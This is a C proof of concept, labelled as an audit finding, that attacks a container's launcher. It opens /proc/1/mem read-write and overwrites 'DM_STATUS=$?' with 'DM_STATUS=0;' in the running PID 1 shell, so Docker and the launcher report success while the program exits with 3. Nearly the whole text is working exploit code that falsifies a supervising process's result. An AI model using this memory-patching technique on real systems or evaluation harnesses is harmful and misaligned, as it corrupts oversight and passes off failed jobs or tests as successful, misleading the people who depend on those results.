/* Finding 1, write: PID 1 is a shell that has not yet parsed the rest of its script. Replace
 * `DM_STATUS=$?` with `DM_STATUS=0;` in its memory, so the launcher itself reports 0 (and
 * Docker agrees), then exit 3. */
static const char want[] = "DM_STATUS=$?";
static const char repl[] = "DM_STATUS=0;";

int main(void) {
    struct range r[256];
    int n = maps_of_pid1(r, 256);
    int fd = (int)result("open(/proc/1/mem, O_RDWR)", open("/proc/1/mem", O_RDWR));
    int patched = 0;
    if (fd >= 0) {
        for (int i = 0; i < n; i++) {
            if (r[i].perms[0] != 'r' || strstr(r[i].name, "vsyscall")) continue;
            size_t len = r[i].hi - r[i].lo;
            if (len > (64u << 20)) continue;
            char *buf = malloc(len);
            if (!buf) continue;
            ssize_t got = pread(fd, buf, len, (off_t)r[i].lo);
            for (ssize_t k = 0; got > 0 && k + (ssize_t)sizeof want - 1 <= got; k++) {
                if (memcmp(buf + k, want, sizeof want - 1) != 0) continue;
                char what[160];
                snprintf(what, sizeof what, "pwrite(/proc/1/mem @%lx %s)", r[i].lo + k, r[i].name);
                if (result(what, pwrite(fd, repl, sizeof repl - 1, (off_t)(r[i].lo + k))) > 0) patched++;
            }
            free(buf);
        }
        say("RESULT script-patched = %s %d\n", patched ? "ok" : "fail errno=0", patched);
    }
    return 3;
}
